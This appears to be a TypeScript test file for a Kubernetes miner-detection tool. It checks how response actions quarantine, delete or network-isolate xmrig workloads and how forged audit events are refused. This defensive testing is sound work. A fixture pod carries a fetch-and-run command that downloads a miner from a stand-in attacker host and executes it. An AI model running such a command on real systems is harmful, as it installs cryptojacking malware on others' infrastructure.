/**
 * The response section on k8s_audit matches: the workload fixtures (a metal3d/xmrig Deployment, a
 * DaemonSet, a CronJob, a bare Pod) go through the real engine and rules, their matches through the
 * dispatcher, and the stand-in API server records the exact requests each action makes. Actions
 * that cannot apply to an API request (kill) are recorded as skipped; protected namespaces are
 * spared. Last, a real `minewatch server` does the same for an event posted to its /k8s-audit.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, beforeEach, describe, test } from 'node:test';
import { DEFAULT_RULES_FILES, Engine, type Match } from '../src/engine/index.js';
import type { Event } from '../src/events.js';
import { auditEvent } from '../src/k8s-api/audit-event.js';
import { agentK8s } from '../src/k8s/agent-k8s.js';
import { K8sClient } from '../src/k8s-api/client.js';
import type { ResponseConfig } from '../src/response/config.js';
import { ResponseDispatcher } from '../src/response/dispatcher.js';
import { DeletePodAction } from '../src/response/k8s/delete-pod.js';
import { IsolatePodAction } from '../src/response/k8s/isolate-pod.js';
import { QuarantineWorkloadAction } from '../src/response/k8s/quarantine.js';
import { SuggestRevokeAction } from '../src/response/k8s/suggest-revoke.js';
import { AllowList } from '../src/response/safety.js';
import type { ActionName } from '../src/response/types.js';
import { AgentRun, randomToken, writeConfig } from './helpers/agent-run.js';
import { K8sApiStandin, type RecordedRequest, listObject, podObject, requestLine, sendJson, workloadObject } from './helpers/k8s-api-standin.js';
import { FIXTURES } from './helpers/paths.js';

type Json = Record<string, any>;
const fixture = (name: string): Json => JSON.parse(readFileSync(join(FIXTURES, 'k8s', 'audit', `${name}.json`), 'utf8'));
const engine = Engine.fromFiles(DEFAULT_RULES_FILES, { ruleMatching: 'all' });
const matchesOf = (payload: Json): Match[] => engine.process(auditEvent(payload));

const DEPLOY_UID = 'd0d0d0d0-1111-4222-8333-444455556666';
const OK = { kind: 'Status', apiVersion: 'v1', status: 'Success' };

function config(mode: 'dryrun' | 'enforce', rule: string, ...actions: ActionName[]): ResponseConfig {
  return { mode, actions: [{ rules: [rule], tags: [], do: actions }], allow: { exe_paths: [], images: [], namespaces: [] }, block_ttl_s: 60 };
}

/**
 * The object as the create request a fixture records made it: created at that request's time (a
 * live object created at another time is another object, and is refused).
 */
function createdAt<T extends Json>(o: T, time: string): T {
  return { ...o, metadata: { ...(o.metadata as Json), creationTimestamp: time } };
}

const POD_UID = 'b0b0b0b0-1111-4222-8333-444455556666';
/** The pod of `kubectl run miner` (fixture pod-kubectl-run-miner) as the API server stores it. */
const minerPod = () => createdAt(podObject({
  name: 'miner', namespace: 'default', uid: POD_UID, node: 'node-a', labels: { run: 'miner' },
  containers: [{ name: 'miner', image: 'alpine', command: ['sh', '-c', 'wget http://attacker.com/miner && chmod +x miner && ./miner'] }],
}), '2026-11-20T10:02:00Z');

const PAYMENTS_UID = 'facefeed-1111-4222-8333-444455556666';
/** The real prod/payments-api Deployment: a clean image, created long before any forged event. */
const paymentsDeployment = () => createdAt(workloadObject('apps/v1', 'Deployment', 'prod', 'payments-api', PAYMENTS_UID, {
  replicas: 6, selector: { matchLabels: { app: 'payments-api' } },
  template: { metadata: { labels: { app: 'payments-api' } }, spec: { containers: [{ name: 'api', image: 'registry.example/payments-api:4.2', command: ['/app/server'] }] } },
}), '2026-03-02T08:00:00Z');

/** The forged audit event: "create Deployment prod/payments-api image xmrig". */
function forgedPaymentsEvent(): Json {
  const ev = fixture('deployment-metal3d-xmrig');
  ev.auditID = '0f0f0f0f-0000-4000-8000-00000000f0f0';
  ev.objectRef.namespace = 'prod';
  ev.requestURI = '/apis/apps/v1/namespaces/prod/deployments';
  ev.requestObject.metadata = { name: 'payments-api', namespace: 'prod', labels: { app: 'payments-api' } };
  ev.requestObject.spec.selector = { matchLabels: { app: 'payments-api' } };
  ev.requestObject.spec.template.metadata.labels = { app: 'payments-api' };
  ev.requestObject.spec.template.spec.containers[0].image = 'xmrig/xmrig:latest';
  return ev;
}

/** An xmrig Deployment as the API server stores it (made by the create of fixture deployment-metal3d-xmrig). */
const xmrigDeployment = (uid = DEPLOY_UID, extra: Json = {}) => createdAt(workloadObject('apps/v1', 'Deployment', 'default', 'xmrig', uid, {
  replicas: 1, selector: { matchLabels: { app: 'xmrig' } }, template: { metadata: { labels: { app: 'xmrig' } }, spec: { containers: [{ name: 'xmrig', image: 'metal3d/xmrig:latest' }] } }, ...extra,
}), '2026-11-20T10:01:00Z');

describe('cluster responses on k8s_audit matches', () => {
  let s: K8sApiStandin;
  let client: K8sClient;
  let from = 0;
  before(async () => {
    s = await K8sApiStandin.start();
    client = new K8sClient({ server: s.url, token: s.token });
  });
  after(() => s.close());
  beforeEach(() => {
    from = s.requests.length;
  });
  const made = (): RecordedRequest[] => s.requests.slice(from);
  const lines = (): string[] => made().map(requestLine);

  /** Run the matches of `payload` through a dispatcher with every cluster action; resolves with the outcome alerts. */
  /** With `recheck: false`, the actions have no engine and compare images and commands instead. */
  async function respond(payload: Json, cfg: ResponseConfig, opts: { allow?: AllowList; selfNamespace?: string; recheck?: false } = {}): Promise<Match[]> {
    const o = { client, allow: opts.allow, selfNamespace: opts.selfNamespace, recheck: opts.recheck === false ? undefined : (rule: string, ev: Event) => engine.recheck(rule, ev) };
    const actions = { delete_pod: new DeletePodAction(o), quarantine_workload: new QuarantineWorkloadAction(o), isolate_pod: new IsolatePodAction(o), suggest_revoke: new SuggestRevokeAction(o) };
    const alerts: Match[] = [];
    const d = new ResponseDispatcher(cfg, actions, (m) => alerts.push(m), 'server-0');
    const matches = matchesOf(payload);
    assert.ok(matches.length > 0, 'the fixture matches a rule');
    let expected = 0;
    for (const m of matches) {
      expected += d.actionsFor(m).length;
      d.onMatch(m);
    }
    assert.ok(expected > 0, 'the config maps a matched rule to actions');
    for (let i = 0; i < 500 && alerts.length < expected; i++) await new Promise((r) => setTimeout(r, 10));
    assert.equal(alerts.length, expected, 'one outcome alert per action');
    return alerts;
  }
  const one = (alerts: Match[], action: ActionName): Match => {
    const a = alerts.filter((x) => x.outputFields['mw.response.action'] === action);
    assert.equal(a.length, 1, `one ${action} outcome`);
    return a[0]!;
  };
  const outcome = (m: Match) => m.outputFields['mw.response.outcome'];

  test('metal3d/xmrig Deployment, enforce: quarantine_workload annotates it and scales it to 0 in one merge patch', async () => {
    const offs = [
      s.on('GET', '/apis/apps/v1/namespaces/default/deployments/xmrig', (_r, res) => sendJson(res, 200, xmrigDeployment())),
      s.on('PATCH', '/apis/apps/v1/namespaces/default/deployments/xmrig', (_r, res) => sendJson(res, 200, xmrigDeployment(DEPLOY_UID, { replicas: 0 }))),
    ];
    const alerts = await respond(fixture('deployment-metal3d-xmrig'), config('enforce', 'K8s Workload With Miner Image', 'quarantine_workload'));
    offs.forEach((f) => f());
    assert.deepEqual(lines(), ['GET /apis/apps/v1/namespaces/default/deployments/xmrig', 'PATCH /apis/apps/v1/namespaces/default/deployments/xmrig']);
    const patch = made()[1]!;
    assert.equal(patch.contentType, 'application/merge-patch+json');
    const body = patch.body as { metadata: { uid: string; annotations: Record<string, string> }; spec: unknown };
    assert.deepEqual(body.spec, { replicas: 0 });
    assert.equal(body.metadata.uid, DEPLOY_UID, 'the uid rides in the patch: a replaced object refuses it');
    const ann = body.metadata.annotations;
    assert.deepEqual(Object.keys(ann).sort(), ['minewatch.io/quarantine-reason', 'minewatch.io/quarantine-undo', 'minewatch.io/quarantined-at', 'minewatch.io/replicas-before']);
    assert.equal(ann['minewatch.io/quarantine-reason'], 'minewatch K8s Workload With Miner Image: create of Deployment default/xmrig by kubernetes-admin');
    assert.equal(ann['minewatch.io/replicas-before'], '1');
    assert.match(ann['minewatch.io/quarantine-undo']!, /^kubectl scale deployment\/xmrig -n default --replicas=1 && kubectl annotate deployment\/xmrig -n default /);

    const a = one(alerts, 'quarantine_workload');
    assert.equal(a.rule, 'minewatch response: quarantine_workload');
    assert.equal(a.priority, 'CRITICAL');
    assert.equal(outcome(a), 'done');
    assert.equal(a.outputFields['mw.response.reason'], 'scaled Deployment default/xmrig from 1 to 0 replicas');
    assert.equal(a.outputFields['mw.response.trigger'], 'K8s Workload With Miner Image');
    assert.equal(a.outputFields['mw.response.owner'], 'Deployment/xmrig');
    assert.equal(a.outputFields['k8s.ns.name'], 'default');
    assert.equal(a.outputFields['ka.user.name'], 'kubernetes-admin');
    assert.equal(a.outputFields['proc.pid'], null, 'no process behind an API request');
    assert.match(a.output, /^quarantine_workload of Deployment default\/xmrig done \(scaled .*\): triggered by K8s Workload With Miner Image \| user=kubernetes-admin verb=create/);
    assert.equal((a.event as { source: string }).source, 'k8s_audit');
  });

  test('metal3d/xmrig Deployment, dry run: reads only, and the alert says what enforce would do', async () => {
    const offs = [
      s.on('GET', '/apis/apps/v1/namespaces/default/deployments/xmrig', (_r, res) => sendJson(res, 200, xmrigDeployment())),
      s.on('GET', '/apis/networking.k8s.io/v1/namespaces/default/networkpolicies', (_r, res) => sendJson(res, 200, listObject('NetworkPolicyList', 'networking.k8s.io/v1', '9', []))),
    ];
    const alerts = await respond(fixture('deployment-metal3d-xmrig'), config('dryrun', 'K8s Workload With Miner Image', 'quarantine_workload', 'isolate_pod'));
    offs.forEach((f) => f());
    assert.ok(made().every((r) => r.method === 'GET'), `a dry run only reads: ${lines().join(', ')}`);
    const q = one(alerts, 'quarantine_workload');
    assert.equal(outcome(q), 'dryrun');
    assert.equal(q.outputFields['mw.response.reason'], 'would scale Deployment default/xmrig from 1 to 0 replicas');
    assert.equal(q.priority, 'WARNING');
    const i = one(alerts, 'isolate_pod');
    assert.equal(outcome(i), 'dryrun');
    assert.equal(i.outputFields['mw.response.reason'], 'would create NetworkPolicy default/minewatch-isolate-deployment-xmrig denying all egress of pods with labels app=xmrig');
  });

  test('the actions of one match share their read of the object: the Deployment is read once for quarantine_workload and isolate_pod', async () => {
    const deployment = '/apis/apps/v1/namespaces/default/deployments/xmrig';
    const offs = [
      s.on('GET', deployment, (_r, res) => sendJson(res, 200, xmrigDeployment())),
      s.on('GET', '/apis/networking.k8s.io/v1/namespaces/default/networkpolicies', (_r, res) => sendJson(res, 200, listObject('NetworkPolicyList', 'networking.k8s.io/v1', '9', []))),
    ];
    const alerts = await respond(fixture('deployment-metal3d-xmrig'), config('dryrun', 'K8s Workload With Miner Image', 'quarantine_workload', 'isolate_pod'));
    offs.forEach((f) => f());
    assert.equal(lines().filter((l) => l === `GET ${deployment}`).length, 1, lines().join(', '));
    assert.equal(outcome(one(alerts, 'quarantine_workload')), 'dryrun');
    assert.equal(outcome(one(alerts, 'isolate_pod')), 'dryrun');
    // Nothing is kept once answered: the next match reads it again.
    from = s.requests.length;
    const again = [s.on('GET', deployment, (_r, res) => sendJson(res, 200, xmrigDeployment()))];
    await respond(fixture('deployment-metal3d-xmrig'), config('dryrun', 'K8s Workload With Miner Image', 'quarantine_workload'));
    again.forEach((f) => f());
    assert.deepEqual(lines(), [`GET ${deployment}`]);
  });

  test('a forged event naming a clean Deployment (issue 13): the live object no longer matches, nothing is scaled or isolated, the alert says why', async () => {
    const offs = [s.on('GET', '/apis/apps/v1/namespaces/prod/deployments/payments-api', (_r, res) => sendJson(res, 200, paymentsDeployment()))];
    const cfg = config('enforce', 'K8s Workload With Miner Image', 'quarantine_workload', 'isolate_pod');
    const alerts = await respond(forgedPaymentsEvent(), cfg);
    assert.ok(made().length > 0 && made().every((r) => r.method === 'GET'), `only reads: ${lines().join(', ')}`);
    for (const action of ['quarantine_workload', 'isolate_pod'] as const) {
      const a = one(alerts, action);
      assert.equal(outcome(a), 'spared', action);
      assert.equal(a.outputFields['mw.response.reason'],
        'live object no longer matches: rule \'K8s Workload With Miner Image\' does not match Deployment prod/payments-api as it is now (images registry.example/payments-api:4.2; commands /app/server); the audit event\'s copy is not what runs, so nothing is done');
      assert.match(a.output, /^\w+ of Deployment prod\/payments-api spared \(live object no longer matches: /);
    }
    // Without the engine at hand, the images are compared: the same refusal.
    from = s.requests.length;
    const bare = one(await respond(forgedPaymentsEvent(), cfg, { recheck: false }), 'quarantine_workload');
    offs.forEach((f) => f());
    assert.equal(outcome(bare), 'spared');
    assert.match(String(bare.outputFields['mw.response.reason']), /^live object no longer matches: Deployment prod\/payments-api runs images registry\.example\/payments-api:4\.2; commands \/app\/server, not the xmrig\/xmrig:latest of the audit event/);
    assert.ok(made().every((r) => r.method === 'GET'));
  });

  test('the rule\'s condition decides, not equality: a live Deployment running another miner tag than the event said is still quarantined', async () => {
    // The event said xmrig/xmrig:latest; the live object runs xmrig/xmrig:6.21 (changed since): the rule still matches what runs.
    const ev = forgedPaymentsEvent();
    // Made by the request the event records (the same time), changed since.
    const live = createdAt(paymentsDeployment(), '2026-11-20T10:01:00Z');
    ((live.spec as Json).template.spec.containers[0] as Json).image = 'xmrig/xmrig:6.21';
    const offs = [
      s.on('GET', '/apis/apps/v1/namespaces/prod/deployments/payments-api', (_r, res) => sendJson(res, 200, live)),
      s.on('PATCH', '/apis/apps/v1/namespaces/prod/deployments/payments-api', (_r, res) => sendJson(res, 200, live)),
    ];
    const a = one(await respond(ev, config('enforce', 'K8s Workload With Miner Image', 'quarantine_workload')), 'quarantine_workload');
    offs.forEach((f) => f());
    assert.equal(outcome(a), 'done', String(a.outputFields['mw.response.reason']));
    assert.equal(a.outputFields['mw.response.reason'], 'scaled Deployment prod/payments-api from 6 to 0 replicas');
    assert.deepEqual(lines(), ['GET /apis/apps/v1/namespaces/prod/deployments/payments-api', 'PATCH /apis/apps/v1/namespaces/prod/deployments/payments-api']);
  });

  test('the uid the audit event recorded must still be the object\'s: a replaced Deployment is missed, never patched', async () => {
    const ev = fixture('deployment-metal3d-xmrig');
    ev.level = 'RequestResponse';
    ev.responseObject = { ...xmrigDeployment('0ld0ld00-1111-4222-8333-444455556666'), status: {} };
    const off = s.on('GET', '/apis/apps/v1/namespaces/default/deployments/xmrig', (_r, res) => sendJson(res, 200, xmrigDeployment()));
    const alerts = await respond(ev, config('enforce', 'K8s Workload With Miner Image', 'quarantine_workload'));
    off();
    assert.deepEqual(lines(), ['GET /apis/apps/v1/namespaces/default/deployments/xmrig']);
    const a = one(alerts, 'quarantine_workload');
    assert.equal(outcome(a), 'missed');
    assert.match(String(a.outputFields['mw.response.reason']), /replaced or changed before the action: .*is now uid d0d0d0d0-.*not the matched 0ld0ld00-/);
  });

  test('a Deployment already quarantined (scaled to 0 by minewatch) is not patched again', async () => {
    const off = s.on('GET', '/apis/apps/v1/namespaces/default/deployments/xmrig', (_r, res) => {
      const d = xmrigDeployment(DEPLOY_UID, { replicas: 0 });
      (d.metadata as Json).annotations = { 'minewatch.io/quarantined-at': '2026-11-26T02:00:00.000Z', 'minewatch.io/replicas-before': '3' };
      sendJson(res, 200, d);
    });
    const alerts = await respond(fixture('deployment-metal3d-xmrig'), config('enforce', 'K8s Workload With Miner Image', 'quarantine_workload'));
    off();
    assert.deepEqual(lines(), ['GET /apis/apps/v1/namespaces/default/deployments/xmrig']);
    const a = one(alerts, 'quarantine_workload');
    assert.equal(outcome(a), 'done');
    assert.match(String(a.outputFields['mw.response.reason']), /already quarantined at 2026-11-26T02:00:00.000Z/);
  });

  test('a DaemonSet is annotated, then deleted with a uid precondition; its manifest is kept in the alert', async () => {
    const DS_UID = 'e0e0e0e0-1111-4222-8333-444455556666';
    const ev = fixture('daemonset-unexpected-user');
    const spec = ev.requestObject.spec;
    const offs = [
      s.on('GET', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, createdAt(workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', DS_UID, spec), '2026-11-20T10:10:00Z'))),
      s.on('PATCH', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, createdAt(workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', DS_UID, spec), '2026-11-20T10:10:00Z'))),
      s.on('DELETE', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, OK)),
    ];
    const alerts = await respond(ev, config('enforce', 'K8s DaemonSet or CronJob By Unexpected User', 'quarantine_workload'));
    offs.forEach((f) => f());
    assert.deepEqual(lines(), [
      'GET /apis/apps/v1/namespaces/logging/daemonsets/log-shipper',
      'PATCH /apis/apps/v1/namespaces/logging/daemonsets/log-shipper',
      'DELETE /apis/apps/v1/namespaces/logging/daemonsets/log-shipper?propagationPolicy=Background',
    ]);
    assert.equal((made()[1]!.body as { spec?: unknown }).spec, undefined, 'annotations only, before the delete');
    assert.deepEqual(made()[2]!.body, { apiVersion: 'v1', kind: 'DeleteOptions', preconditions: { uid: DS_UID } });
    const a = one(alerts, 'quarantine_workload');
    assert.equal(outcome(a), 'done');
    assert.equal(a.outputFields['mw.response.reason'], 'deleted DaemonSet logging/log-shipper (annotated first with why)');
    assert.deepEqual(JSON.parse(String(a.outputFields['mw.response.manifest'])), { apiVersion: 'apps/v1', kind: 'DaemonSet', metadata: { name: 'log-shipper', namespace: 'logging', annotations: {} }, spec });
    assert.equal(a.outputFields['mw.response.user'], 'mallory');
  });

  test('a rule on who sent the request (a DaemonSet by an unexpected user) cannot be aimed at another object of that name: one created at another time is spared', async () => {
    const ev = fixture('daemonset-unexpected-user');
    const spec = ev.requestObject.spec;
    // Same name and spec, created a month before the request the event records: not the object that request made.
    const off = s.on('GET', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, createdAt(workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', 'e1e1e1e1-1111-4222-8333-444455556666', spec), '2026-10-20T09:00:00Z')));
    const alerts = await respond(ev, config('enforce', 'K8s DaemonSet or CronJob By Unexpected User', 'quarantine_workload'));
    off();
    assert.deepEqual(lines(), ['GET /apis/apps/v1/namespaces/logging/daemonsets/log-shipper'], 'read, never deleted');
    const a = one(alerts, 'quarantine_workload');
    assert.equal(outcome(a), 'spared');
    assert.equal(a.outputFields['mw.response.reason'], 'live object no longer matches: DaemonSet logging/log-shipper was created at 2026-10-20T09:00:00.000Z, not by the create request of 2026-11-20T10:10:00.100000Z the audit event records, so nothing is done');
  });

  test('a CronJob is suspended', async () => {
    const CJ_UID = 'c0c0c0c0-1111-4222-8333-444455556666';
    const ev = fixture('cronjob-wget-pool');
    const offs = [
      s.on('GET', '/apis/batch/v1/namespaces/default/cronjobs/cleanup', (_r, res) => sendJson(res, 200, createdAt(workloadObject('batch/v1', 'CronJob', 'default', 'cleanup', CJ_UID, { ...ev.requestObject.spec, suspend: false }), '2026-11-20T10:08:00Z'))),
      s.on('PATCH', '/apis/batch/v1/namespaces/default/cronjobs/cleanup', (_r, res) => sendJson(res, 200, workloadObject('batch/v1', 'CronJob', 'default', 'cleanup', CJ_UID, { ...ev.requestObject.spec, suspend: true }))),
    ];
    const rule = matchesOf(ev)[0]!.rule;
    const alerts = await respond(ev, config('enforce', rule, 'quarantine_workload'));
    offs.forEach((f) => f());
    assert.deepEqual(lines(), ['GET /apis/batch/v1/namespaces/default/cronjobs/cleanup', 'PATCH /apis/batch/v1/namespaces/default/cronjobs/cleanup']);
    const body = made()[1]!.body as { spec: unknown; metadata: { uid: string; annotations: Record<string, string> } };
    assert.deepEqual(body.spec, { suspend: true });
    assert.equal(body.metadata.uid, CJ_UID);
    assert.match(body.metadata.annotations['minewatch.io/quarantine-undo']!, /kubectl patch cronjob\/cleanup -n default --type=merge -p '\{"spec":\{"suspend":false\}\}'/);
    assert.equal(outcome(one(alerts, 'quarantine_workload')), 'done');
    assert.equal(one(alerts, 'quarantine_workload').outputFields['mw.response.reason'], 'suspended CronJob default/cleanup');
  });

  test('a bare Pod (kubectl run miner): delete_pod reads it, it still runs the miner command, deletes it with grace period 0; kill is skipped, with the reason', async () => {
    const offs = [
      s.on('GET', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, minerPod())),
      s.on('DELETE', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, OK)),
    ];
    const alerts = await respond(fixture('pod-kubectl-run-miner'), config('enforce', 'K8s Workload Runs Miner Command', 'kill', 'delete_pod'));
    offs.forEach((f) => f());
    assert.deepEqual(lines(), ['GET /api/v1/namespaces/default/pods/miner', 'DELETE /api/v1/namespaces/default/pods/miner?gracePeriodSeconds=0']);
    assert.deepEqual(made()[1]!.body, { apiVersion: 'v1', kind: 'DeleteOptions', gracePeriodSeconds: 0 });
    const del = one(alerts, 'delete_pod');
    assert.equal(outcome(del), 'done');
    assert.equal(del.outputFields['k8s.pod.name'], 'miner');
    const kill = one(alerts, 'kill');
    assert.equal(outcome(kill), 'skipped');
    assert.equal(kill.priority, 'INFORMATIONAL');
    assert.match(String(kill.outputFields['mw.response.reason']), /kill acts on a process and a k8s_audit event is an API request, with no process/);
  });

  test('a bare Pod: quarantine_workload finds no controller and deletes the pod itself, annotated first', async () => {
    const offs = [
      s.on('GET', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, minerPod())),
      s.on('PATCH', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, {})),
      s.on('DELETE', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, OK)),
    ];
    const alerts = await respond(fixture('pod-kubectl-run-miner'), config('enforce', 'K8s Workload Runs Miner Command', 'quarantine_workload'));
    offs.forEach((f) => f());
    assert.deepEqual(lines(), ['GET /api/v1/namespaces/default/pods/miner', 'PATCH /api/v1/namespaces/default/pods/miner', 'DELETE /api/v1/namespaces/default/pods/miner?gracePeriodSeconds=0']);
    assert.deepEqual(made()[2]!.body, { apiVersion: 'v1', kind: 'DeleteOptions', preconditions: { uid: POD_UID }, gracePeriodSeconds: 0 });
    const a = one(alerts, 'quarantine_workload');
    assert.equal(outcome(a), 'done');
    assert.equal(a.outputFields['mw.response.reason'], 'deleted Pod default/miner (annotated first with why)');
    assert.equal(JSON.parse(String(a.outputFields['mw.response.manifest'])).kind, 'Pod');
  });

  test('isolate_pod on a Deployment: a deny-all-egress NetworkPolicy on its live pod template labels', async () => {
    const offs = [
      s.on('GET', '/apis/apps/v1/namespaces/default/deployments/xmrig', (_r, res) => sendJson(res, 200, xmrigDeployment())),
      s.on('GET', '/apis/networking.k8s.io/v1/namespaces/default/networkpolicies', (_r, res) => sendJson(res, 200, listObject('NetworkPolicyList', 'networking.k8s.io/v1', '9', []))),
      s.on('POST', '/apis/networking.k8s.io/v1/namespaces/default/networkpolicies', (r, res) => sendJson(res, 201, r.body)),
    ];
    const alerts = await respond(fixture('deployment-metal3d-xmrig'), config('enforce', 'K8s Workload With Miner Image', 'isolate_pod'));
    offs.forEach((f) => f());
    assert.deepEqual(lines(), ['GET /apis/apps/v1/namespaces/default/deployments/xmrig', 'GET /apis/networking.k8s.io/v1/namespaces/default/networkpolicies', 'POST /apis/networking.k8s.io/v1/namespaces/default/networkpolicies']);
    const body = made()[2]!.body as { metadata: { name: string; labels: Record<string, string>; annotations: Record<string, string> }; spec: unknown };
    assert.equal(body.metadata.name, 'minewatch-isolate-deployment-xmrig');
    assert.deepEqual(body.metadata.labels, { 'app.kubernetes.io/managed-by': 'minewatch', 'minewatch.io/isolated-workload': 'Deployment.xmrig' });
    assert.equal(body.metadata.annotations['minewatch.io/reason'], 'minewatch K8s Workload With Miner Image: create of Deployment default/xmrig by kubernetes-admin');
    assert.deepEqual(body.spec, { podSelector: { matchLabels: { app: 'xmrig' } }, policyTypes: ['Egress'], egress: [] });
    assert.equal(outcome(one(alerts, 'isolate_pod')), 'done');
  });

  test('isolate_pod on a bare Pod takes the live pod\'s labels', async () => {
    const offs = [
      s.on('GET', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, minerPod())),
      s.on('GET', '/apis/networking.k8s.io/v1/namespaces/default/networkpolicies', (_r, res) => sendJson(res, 200, listObject('NetworkPolicyList', 'networking.k8s.io/v1', '9', []))),
      s.on('POST', '/apis/networking.k8s.io/v1/namespaces/default/networkpolicies', (r, res) => sendJson(res, 201, r.body)),
    ];
    const alerts = await respond(fixture('pod-kubectl-run-miner'), config('enforce', 'K8s Workload Runs Miner Command', 'isolate_pod'));
    offs.forEach((f) => f());
    assert.deepEqual(lines(), ['GET /api/v1/namespaces/default/pods/miner', 'GET /apis/networking.k8s.io/v1/namespaces/default/networkpolicies', 'POST /apis/networking.k8s.io/v1/namespaces/default/networkpolicies']);
    const body = made()[2]!.body as { metadata: { name: string }; spec: unknown };
    assert.equal(body.metadata.name, 'minewatch-isolate-miner');
    assert.deepEqual(body.spec, { podSelector: { matchLabels: { run: 'miner' } }, policyTypes: ['Egress'], egress: [] });
    assert.equal(outcome(one(alerts, 'isolate_pod')), 'done');
  });

  test('suggest_revoke lists the bindings of the user that sent the request, and of a ServiceAccount; changes nothing', async () => {
    const rb = (ns: string, name: string, subjects: unknown[]) => ({ kind: 'RoleBinding', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name, namespace: ns }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' }, subjects });
    const crb = (name: string, subjects: unknown[]) => ({ kind: 'ClusterRoleBinding', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects });
    const offs = [
      s.on('GET', '/apis/rbac.authorization.k8s.io/v1/rolebindings', (_r, res) => sendJson(res, 200, listObject('RoleBindingList', 'rbac.authorization.k8s.io/v1', '5', [
        rb('default', 'default-sa-edit', [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }]),
        rb('team', 'admin-team', [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'kubernetes-admin' }]),
      ]))),
      s.on('GET', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', (_r, res) => sendJson(res, 200, listObject('ClusterRoleBindingList', 'rbac.authorization.k8s.io/v1', '5', [
        crb('admin-user', [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'kubernetes-admin' }]),
        crb('system:basic-user', [{ kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: 'system:authenticated' }]),
      ]))),
    ];
    const user = one(await respond(fixture('deployment-metal3d-xmrig'), config('enforce', 'K8s Workload With Miner Image', 'suggest_revoke')), 'suggest_revoke');
    assert.deepEqual(lines().sort(), ['GET /apis/rbac.authorization.k8s.io/v1/clusterrolebindings', 'GET /apis/rbac.authorization.k8s.io/v1/rolebindings']);
    assert.equal(outcome(user), 'done');
    assert.equal(user.outputFields['mw.response.subject'], 'user kubernetes-admin');
    assert.equal(user.outputFields['mw.response.object'], 'Deployment/xmrig');
    assert.equal(user.outputFields['mw.response.bindings'], 'ClusterRoleBinding admin-user (ClusterRole cluster-admin); RoleBinding team/admin-team (ClusterRole edit)');
    assert.match(String(user.outputFields['mw.response.commands']), /^kubectl delete clusterrolebinding admin-user\nkubectl delete rolebinding -n team admin-team\n# kubernetes-admin is a user/);

    from = s.requests.length;
    const sa = one(await respond(fixture('cronjob-unexpected-user'), config('enforce', 'K8s DaemonSet or CronJob By Unexpected User', 'suggest_revoke')), 'suggest_revoke');
    offs.forEach((f) => f());
    assert.ok(made().every((r) => r.method === 'GET'));
    assert.equal(sa.outputFields['mw.response.subject'], 'ServiceAccount default/default');
    assert.equal(sa.outputFields['mw.response.bindings'], 'RoleBinding default/default-sa-edit (ClusterRole edit)');
    assert.match(String(sa.outputFields['mw.response.commands']), /kubectl delete serviceaccount -n default default/);
  });

  test('suggest_revoke never suggests revoking Kubernetes\' own controllers (a ReplicaSet\'s pods are created by one)', async () => {
    const ev = fixture('pod-kubectl-run-miner');
    ev.user = { username: 'system:serviceaccount:kube-system:replicaset-controller', groups: ['system:serviceaccounts', 'system:authenticated'] };
    const a = one(await respond(ev, config('enforce', 'K8s Workload Runs Miner Command', 'suggest_revoke')), 'suggest_revoke');
    assert.deepEqual(made(), []);
    assert.equal(outcome(a), 'spared');
    assert.match(String(a.outputFields['mw.response.reason']), /ServiceAccount kube-system\/replicaset-controller is a Kubernetes controller/);
  });

  test('kube-system, minewatch\'s own namespace and allow-listed images are spared; process actions and delete_pod on a workload are skipped', async () => {
    const sys = await respond(fixture('daemonset-xmrig-any-registry'), config('enforce', 'K8s Workload With Miner Image', 'quarantine_workload', 'delete_pod', 'kill', 'kill_container', 'block_destination'));
    assert.deepEqual(made(), [], 'nothing sent');
    const q = one(sys, 'quarantine_workload');
    assert.equal(outcome(q), 'spared');
    assert.match(String(q.outputFields['mw.response.reason']), /namespace kube-system is protected/);
    assert.equal(outcome(one(sys, 'delete_pod')), 'skipped');
    assert.match(String(one(sys, 'delete_pod').outputFields['mw.response.reason']), /names DaemonSet kube-system\/node-agent, not a pod/);
    for (const k of ['kill', 'kill_container', 'block_destination'] as const) assert.equal(outcome(one(sys, k)), 'skipped', k);

    const own = one(await respond(fixture('deployment-metal3d-xmrig'), config('enforce', 'K8s Workload With Miner Image', 'quarantine_workload'), { selfNamespace: 'default' }), 'quarantine_workload');
    assert.equal(outcome(own), 'spared');
    assert.match(String(own.outputFields['mw.response.reason']), /namespace default is minewatch's own/);
    const allowed = one(await respond(fixture('deployment-metal3d-xmrig'), config('enforce', 'K8s Workload With Miner Image', 'quarantine_workload'), { allow: new AllowList({ images: ['metal3d/xmrig'] }) }), 'quarantine_workload');
    assert.equal(outcome(allowed), 'spared');
    assert.match(String(allowed.outputFields['mw.response.reason']), /allow-listed image metal3d\/xmrig:latest/);
    assert.deepEqual(made(), []);
  });

  test('a refused request and an admission request name no object to act on: skipped, nothing sent', async () => {
    const alerts: Match[] = [];
